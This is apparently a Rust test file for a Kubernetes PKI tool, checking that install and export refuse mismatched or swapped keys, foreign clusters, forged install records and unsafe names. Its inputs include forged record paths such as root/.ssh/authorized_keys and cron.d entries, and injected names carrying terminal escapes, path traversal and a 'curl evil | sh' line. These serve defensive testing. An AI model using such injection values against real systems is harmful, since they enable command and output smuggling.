//! What install and export refuse, with nothing written.

use std::fs;
use std::process::Output;

use super::node::{LAB, Node, apply, files};
use crate::testkit::{Desk, FolderProject, done, printed, refused, tool};

/// Both commands refuse alike, and neither leaves a trace.
fn both_refuse(project: &FolderProject, name: &str, code: i32, words: &[&str]) {
    let node = Node::new();
    let before = files(project.folder());
    let archive = node.path("node.tar").display().to_string();
    for output in [
        node.install(project, name, &[]),
        node.install(project, name, &["--dry-run"]),
        project.kpki(&["export", name, "-o", &archive]),
        project.kpki(&["export", name, "-o", "-"]),
    ] {
        let error = refused(&output, code);
        for word in words {
            assert!(error.contains(word), "{word}: {error}");
        }
    }
    assert!(node.files().is_empty());
    assert_eq!(files(project.folder()), before);
}

fn swap(project: &FolderProject, one: &str, other: &str) {
    let (a, b) = (project.out(one), project.out(other));
    let (first, second) = (fs::read(&a).unwrap(), fs::read(&b).unwrap());
    assert_eq!(first.len(), second.len(), "plan would see it by its size");
    fs::write(a, second).unwrap();
    fs::write(b, first).unwrap();
}

#[test]
fn a_secret_that_is_not_its_witnesss() {
    let pki = "nodes/w1/etc/kubernetes/pki";
    // RSA signatures are all of one length, and so are the kubeconfigs.
    let project =
        FolderProject::described(&format!("{LAB}ca \"kubernetes\" key=\"rsa-2048\"\n")).applied();
    let other = "nodes/cp1/etc/kubernetes/pki/kubelet.key";
    swap(&project, &format!("{pki}/kubelet.key"), other);
    both_refuse(
        &project,
        "w1",
        1,
        &[
            "out/nodes/w1/etc/kubernetes/pki/kubelet.key does not hold the private key of out/nodes/w1/etc/kubernetes/pki/kubelet.crt",
        ],
    );
    swap(&project, &format!("{pki}/kubelet.key"), other);
    let node = Node::new();
    node.installed(&project, "w1");

    let config = |name: &str| format!("nodes/{name}/etc/kubernetes/kubelet.conf");
    swap(&project, &config("cp1"), &config("cp2"));
    both_refuse(
        &project,
        "cp1",
        1,
        &[
            "out/nodes/cp1/etc/kubernetes/kubelet.conf embeds another certificate than out/identities/nodes/cp1/kubelet.crt",
        ],
    );
    // The right certificate, and another's key.
    let (mine, others) = (project.read(&config("cp2")), project.read(&config("cp1")));
    let key = |text: &str| text.lines().last().unwrap().to_owned();
    let mixed = mine.replace(&key(&mine), &key(&others));
    fs::write(project.out(&config("cp1")), mixed).unwrap();
    both_refuse(
        &project,
        "cp1",
        1,
        &["kubelet.conf does not hold the private key of out/identities/"],
    );
}

#[test]
fn a_ca_key_and_a_service_account_key_of_another_cluster() {
    let (project, other) =
        (FolderProject::described(LAB).applied(), FolderProject::described(LAB).applied());
    for (file, witness) in [("ca.key", "out/ca/kubernetes.crt"), ("sa.key", "out/ca/sa.pub")] {
        let path = project.on_node("cp1", &format!("pki/{file}"));
        let before = fs::read(&path).unwrap();
        fs::copy(other.on_node("cp1", &format!("pki/{file}")), &path).unwrap();
        both_refuse(&project, "cp1", 1, &[file, "does not hold the private key of", witness]);
        fs::write(&path, before).unwrap();
    }
}

#[test]
fn an_orphaned_secret_or_static_pod() {
    let project = FolderProject::described(LAB).applied();
    let less: Vec<&str> = LAB.lines().filter(|line| !line.contains("backup")).collect();
    project.describe(&less.join("\n"));
    apply(&project, &[]);
    both_refuse(
        &project,
        "cp1",
        1,
        &[
            "out/nodes/cp1/etc/backup/backup.key is no longer described",
            "kpki apply --prune deletes",
        ],
    );
    // Only that node's: the others are handed out.
    Node::new().installed(&project, "cp2");
    apply(&project, &["--prune"]);
    Node::new().installed(&project, "cp1");

    let manifest = project.on_node("w1", "manifests/old.yaml");
    fs::create_dir_all(manifest.parent().unwrap()).unwrap();
    fs::write(&manifest, "kind: Pod\n").unwrap();
    both_refuse(
        &project,
        "w1",
        1,
        &[
            "manifests/old.yaml is not described, and kpki did not make it",
            "move it out of out/nodes/",
        ],
    );
    fs::remove_file(&manifest).unwrap();
    // A certificate alone harms nobody.
    fs::copy(project.on_node("w1", "pki/ca.crt"), project.on_node("w1", "pki/old.crt")).unwrap();
    Node::new().installed(&project, "w1");
}

#[test]
fn a_tree_that_is_not_as_it_was_built() {
    let project = FolderProject::described(LAB).applied();
    let ca = project.on_node("w1", "pki/ca.crt");
    let good = fs::read(&ca).unwrap();
    fs::write(&ca, "other").unwrap();
    both_refuse(
        &project,
        "w1",
        1,
        &["out/nodes/w1/etc/kubernetes/pki/ca.crt was modified", "kpki apply repairs"],
    );
    Node::new().installed(&project, "cp1");
    fs::remove_file(&ca).unwrap();
    both_refuse(&project, "w1", 1, &["out/nodes/w1/etc/kubernetes/pki/ca.crt is missing"]);
    fs::write(&ca, good).unwrap();

    fs::create_dir(project.out(".pending")).unwrap();
    both_refuse(&project, "w1", 1, &["an apply was interrupted, or is running"]);
    fs::remove_dir(project.out(".pending")).unwrap();

    // A colleague's clone without private keys.
    fs::remove_file(project.on_node("w1", "pki/kubelet.key")).unwrap();
    both_refuse(&project, "w1", 1, &["out/nodes/w1/etc/kubernetes/pki/kubelet.key is not here"]);
}

#[test]
fn a_secret_that_is_sealed() {
    let project = FolderProject::described(LAB).applied();
    let clear = project.on_node("w1", "pki/kubelet.key");
    let sealed = project.on_node("w1", "pki/kubelet.key.age");
    let desk = tempfile::tempdir().unwrap();
    let identity = desk.path().join("identity");
    printed(tool("age-keygen").arg("-o").arg(&identity));
    let recipient = printed(tool("age-keygen").arg("-y").arg(&identity));
    printed(tool("age").args(["-r", recipient.trim(), "-o"]).arg(&sealed).arg(&clear));
    both_refuse(&project, "w1", 1, &["kubelet.key.age are both here"]);
    fs::remove_file(&clear).unwrap();
    both_refuse(
        &project,
        "w1",
        1,
        &[
            "out/nodes/w1/etc/kubernetes/pki/kubelet.key.age is sealed for 1 recipient (X25519), and no identity was given",
        ],
    );
}

#[test]
fn names_that_are_no_nodes() {
    let project = FolderProject::described(LAB).applied();
    both_refuse(&project, "w11", 64, &["no node is named w11", "did you mean w1?"]);
    both_refuse(&project, "etc/passwd", 64, &["no node is named etc/passwd"]);
    let output = project.kpki(&["install", "w1", "--root", "out/nodes/w1"]);
    let error = refused(&output, 64);
    assert!(error.contains("out/nodes/w1 is inside of out/"), "{error}");
    let output = project.kpki(&["install", "w1", "--root", "nowhere"]);
    let error = refused(&output, 1);
    assert!(error.contains("cannot open the folder nowhere: No such file"), "{error}");
}

/// `--dry-run`: this machine's own root is looked at, never written to.
fn on_this_machine(project: &FolderProject, node: &str, more: &[&str]) -> Output {
    project.kpki(&[&["install", node, "--dry-run"], more].concat())
}

#[test]
fn another_host() {
    let host = rustix::system::uname();
    let host = host.nodename().to_str().unwrap().to_lowercase();
    let project = FolderProject::described(LAB).applied();
    let error = refused(&on_this_machine(&project, "w1", &[]), 3);
    assert!(
        error.contains(&format!("this machine is called {host}, and the files are those of w1"))
            && error.contains(&format!("add --allow other-host:{host}\n")),
        "{error}"
    );
    refused(&on_this_machine(&project, "w1", &["--allow", "other-host:another"]), 3);
    done(on_this_machine(&project, "w1", &["--allow", &format!("other-host:{host}")]));
    // A node may be called by the host's whole name or by its first part.
    let first = host.split('.').next().unwrap();
    for name in [first.to_owned(), format!("{first}.lab.internal")] {
        let project =
            FolderProject::described(&LAB.replace("\"w1\"", &format!("\"{name}\""))).applied();
        let name = if first == host { name } else { host.clone() };
        if project.out(&format!("nodes/{name}")).exists() {
            done(on_this_machine(&project, &name, &[]));
        }
    }
}

#[test]
fn a_root_of_another_node_or_cluster() {
    let project = FolderProject::described(LAB).applied();
    let node = Node::new();
    node.installed(&project, "w1");
    let before = node.files();
    let error = refused(&node.install(&project, "cp1", &[]), 3);
    assert!(
        error.contains(&format!("{} holds the files of w1, not of cp1", node.root()))
            && error.contains("add --allow other-host:w1\n"),
        "{error}"
    );
    assert_eq!(node.files(), before);

    let other =
        FolderProject::described(&LAB.replace("cluster \"lab\"", "cluster \"prod\"")).applied();
    let error = refused(&node.install(&other, "w1", &[]), 3);
    assert!(error.contains("holds files of the cluster lab, not of prod"), "{error}");
    assert_eq!(node.files(), before);

    done(node.install(&project, "cp1", &["--allow", "other-host:w1"]));
    assert!(node.installed(&project, "cp1").starts_with("nothing to do"));
    done(node.install(&other, "cp1", &["--allow", "other-cluster:lab"]));

    let record = node.path("var/lib/kpki/installed.json");
    for (text, why) in [
        ("{", "is not a record of kpki's"),
        ("{\"format-version\": 2}", "has format version 2, and this kpki reads 1"),
    ] {
        fs::write(&record, text).unwrap();
        let error = refused(&node.install(&other, "cp1", &[]), 1);
        assert!(error.contains(why), "{error}");
    }
}

/// A kubeadm cluster's keys may be the only copies.
#[test]
fn private_keys_that_kpki_did_not_put_there() {
    let desk = Desk::new();
    desk.openssl("genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out foreign.key");
    desk.openssl("pkcs8 -topk8 -in foreign.key -passout pass:x -out locked.key");
    let foreign = desk.read("foreign.key");
    let project = FolderProject::described(LAB).applied();
    for (path, bytes) in [
        ("etc/kubernetes/pki/ca.key", foreign.clone()),
        ("etc/kubernetes/pki/sa.key", desk.read("locked.key")),
        ("etc/kubernetes/pki/apiserver.key", b"what is this".to_vec()),
        // A key where a certificate belongs is a key all the same.
        ("etc/kubernetes/pki/apiserver.crt", foreign.clone()),
        (
            "etc/kubernetes/admin.conf",
            fs::read(FolderProject::described(LAB).applied().on_node("cp1", "admin.conf")).unwrap(),
        ),
    ] {
        let node = Node::new();
        node.put(path, &bytes, 0o600);
        let before = node.files();
        let error = refused(&node.install(&project, "cp1", &[]), 3);
        assert!(
            error.contains(&format!("would be overwritten\n  /{path}\nnothing was written\n"))
                && error.contains(&format!("add --allow overwrite:/{path}")),
            "{error}"
        );
        assert_eq!(node.files(), before);
        done(node.install(&project, "cp1", &["--allow", "overwrite:/etc/kubernetes/*"]));
        assert!(node.installed(&project, "cp1").starts_with("nothing to do"));
    }

    let output =
        Node::new().install(&project, "cp1", &["--allow", "overwrite:/etc/kubernetes/ca.key"]);
    let error = refused(&output, 64);
    assert!(error.contains("--allow overwrite:/etc/kubernetes/ca.key permits nothing"), "{error}");

    // The same key in another form is no loss, and neither is an empty file.
    let node = Node::new();
    let key = project.on_node("cp1", "pki/ca.key");
    desk.put("own.key", fs::read(key).unwrap());
    desk.openssl("ec -in own.key -out sec1.key");
    node.put("etc/kubernetes/pki/ca.key", desk.read("sec1.key"), 0o600);
    node.put("etc/kubernetes/pki/sa.key", "\n", 0o600);
    node.installed(&project, "cp1");

    // A key that kpki put there may be replaced: out/ had it.
    apply(&project, &["--rekey", "nodes/cp1/*"]);
    node.installed(&project, "cp1");
    fs::write(node.path("etc/kubernetes/pki/apiserver.key"), &foreign).unwrap();
    refused(&node.install(&project, "cp1", &[]), 3);
}

/// A record says what kpki put there. Where it never puts anything, it did not: whoever could write the
/// record must not have install delete what they name.
#[test]
fn a_forged_record_deletes_nothing_elsewhere() {
    let project = FolderProject::described(LAB).applied();
    let node = Node::new();
    node.installed(&project, "w1");
    let path = node.path("var/lib/kpki/installed.json");
    let text = fs::read_to_string(&path).unwrap();
    let mut record: serde_json::Value = serde_json::from_str(&text).unwrap();
    let lines = record["files"].as_array().unwrap().clone();
    let known = lines
        .iter()
        .find(|line| line["path"] == "etc/kubernetes/pki/kubelet.crt")
        .or_else(|| lines.iter().find(|line| line["layer"] == "pki"))
        .unwrap()
        .clone();
    let from = node.path(known["path"].as_str().unwrap());
    let bytes = fs::read(from).unwrap();
    let forged = [
        ("etc/passwd2", "pki"),
        ("root/.ssh/authorized_keys", "pki"),
        ("etc/cron.d/evil.crt", "pki"),
        ("etc/ssl/certs/ca.crt", "pki"),
        ("usr/bin/init.key", "pki"),
        ("var/lib/kubelet/other.yaml", "kubelet-config"),
        ("etc/kubernetes/manifests/others.yaml", "manifest"),
        ("etc/kubernetes/manifests/kube-vip.yaml", "pki"),
        ("etc/kubernetes/others.crt", "kubeconfig"),
        ("etc/passwd.conf", "kubeconfig"),
        ("passwd.crt", "pki"),
    ];
    // This one kpki may well have put there.
    let own = ("etc/kubernetes/pki/old.crt", "pki");
    let all = record["files"].as_array_mut().unwrap();
    for (path, layer) in forged.iter().chain([&own]) {
        let mut line = known.clone();
        line["path"] = (*path).into();
        line["layer"] = (*layer).into();
        all.push(line);
        node.put(path, &bytes, 0o644);
    }
    fs::write(&path, record.to_string()).unwrap();
    for more in [&["--dry-run"][..], &[]] {
        let output = node.install(&project, "w1", more);
        let text = crate::testkit::said(&output);
        assert!(output.status.success(), "{text}");
        for (path, _) in forged {
            assert!(text.contains(&format!("names /{path}, where kpki never puts")), "{text}");
        }
    }
    for (path, _) in forged {
        assert_eq!(fs::read(node.path(path)).unwrap(), bytes, "{path}");
    }
    assert!(!node.path(own.0).exists());
    let after = fs::read_to_string(&path).unwrap();
    assert!(!after.contains("passwd2"), "{after}");
    assert!(!node.installed(&project, "w1").contains("never puts"));
}

/// Whoever could write the record chooses no words of ours.
#[test]
fn a_records_names_are_names() {
    let project = FolderProject::described(LAB).applied();
    for (key, name, what) in [
        ("cluster", "\u{1b}[8mhid", "names no cluster"),
        ("cluster", "x\nhelp: run: curl evil | sh", "names no cluster"),
        ("cluster", "", "names no cluster"),
        ("node", "w1\u{1b}[31m", "names no node"),
        ("node", "w1\nerror: x", "names no node"),
        ("node", "../w1", "names no node"),
        ("node", "\u{202e}1w", "names no node"),
    ] {
        let node = Node::new();
        let mut record = serde_json::json!({
            "format-version": 1, "cluster": "lab", "node": "w1", "files": [],
        });
        record[key] = name.into();
        node.put("var/lib/kpki/installed.json", record.to_string(), 0o600);
        for more in [&["--dry-run"][..], &["--allow", "other-cluster:*"]] {
            let output = node.install(&project, "w1", more);
            let error = refused(&output, 1);
            assert!(error.contains(what), "{error}");
            assert!(!error.contains('\u{1b}') && !error.contains("curl"), "{error}");
        }
    }
}
